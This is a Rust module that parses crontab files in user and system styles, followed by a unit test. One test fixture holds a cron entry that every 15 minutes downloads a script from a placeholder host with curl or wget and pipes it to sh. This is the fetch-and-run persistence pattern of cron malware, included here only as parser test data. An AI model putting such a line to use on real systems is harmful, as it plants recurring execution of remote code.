//! `crontab -l`, or a crontab of the system.
//!
//! Source: crontab(5) of Debian's cron: five fields of time or `@` and a word, in a system's file the user, the command.

use super::Row;

/// An entry.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Entry {
    /// When, as written.
    pub when: String,
    /// As whom, in a system's file.
    pub user: Option<String>,
    /// What.
    pub runs: String,
}

/// Whether entries name a user.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Style {
    Own,
    System,
}

impl Style {
    /// The style of a text that is a crontab throughout.
    pub(super) fn of(text: &str) -> Option<Style> {
        let (mut entries, mut named) = (0_u32, 0_u32);
        for line in text.lines() {
            match Style::Own.row(line) {
                Row::Entry(entry) => {
                    entries += 1;
                    named += u32::from(entry.runs.split_whitespace().next() == Some("root"));
                }
                Row::Familiar => {}
                // The last line may be cut.
                _ => return None,
            }
        }
        (entries > 0).then_some(if named * 2 >= entries { Style::System } else { Style::Own })
    }

    pub(super) fn row(self, line: &str) -> Row {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            return Row::Familiar;
        }
        let fields = if line.starts_with('@') { 1 } else { 5 };
        let Some((when, runs)) = fields_of(line, fields) else {
            return if is_assignment(line) { Row::Familiar } else { Row::Unread };
        };
        let (user, runs) = match runs.split_once(char::is_whitespace) {
            Some((user, rest)) if self == Style::System => (Some(user.to_owned()), rest.trim_start()),
            _ => (None, runs),
        };
        Row::Entry(Entry { when, user, runs: runs.to_owned() })
    }
}

/// The fields of time and the rest.
fn fields_of(line: &str, count: usize) -> Option<(String, &str)> {
    const WORDS: [&str; 8] =
        ["@reboot", "@yearly", "@annually", "@monthly", "@weekly", "@daily", "@midnight", "@hourly"];
    let mut rest = line;
    let mut when = Vec::new();
    for _ in 0..count {
        let (field, behind) = rest.split_once(char::is_whitespace)?;
        let names = |letter: u8| letter.is_ascii_digit() || b"*,/-".contains(&letter);
        let name =
            field.len() == 3 && field.bytes().all(|letter| letter.is_ascii_alphabetic()) && when.len() >= 3;
        if !(WORDS.contains(&field) || name || (count == 5 && field.bytes().all(names))) {
            return None;
        }
        when.push(field);
        rest = behind.trim_start();
    }
    // A row of figures is a table, not a crontab.
    let command = rest.starts_with(|first: char| !first.is_ascii_digit()) && !rest.is_empty();
    let timed = count == 1 || when.iter().any(|field| field.contains('*'));
    (command && timed).then(|| (when.join(" "), rest))
}

fn is_assignment(line: &str) -> bool {
    line.split_once('=').is_some_and(|(name, _)| {
        let name = name.trim();
        !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn entries_of_both_styles() {
        let own = "MAILTO=\"\"\n# mine\n*/15 * * * * (curl -fsSL https://a.example/x || wget -q -O- y)|sh\n@reboot /opt/x\n";
        assert_eq!(Style::of(own), Some(Style::Own));
        let system = "01 * * * * root run-parts /etc/cron.hourly\n@hourly root /usr/local/bin/backup\n";
        let style = Style::of(system);
        assert_eq!(style, Some(Style::System));
        let Some(Row::Entry(entry)) = style.map(|style| style.row("01 * * * * root run-parts /x")) else {
            panic!("no entry")
        };
        assert_eq!((entry.user.as_deref(), entry.runs.as_str()), (Some("root"), "run-parts /x"));
        for text in
            ["A=1\n", "1 2 3 4 5 six\n", "* * *\n", "* one item of a list\n", "SHELL=/bin/sh\nhello\n"]
        {
            assert_eq!(Style::of(text), None, "{text}");
        }
    }
}
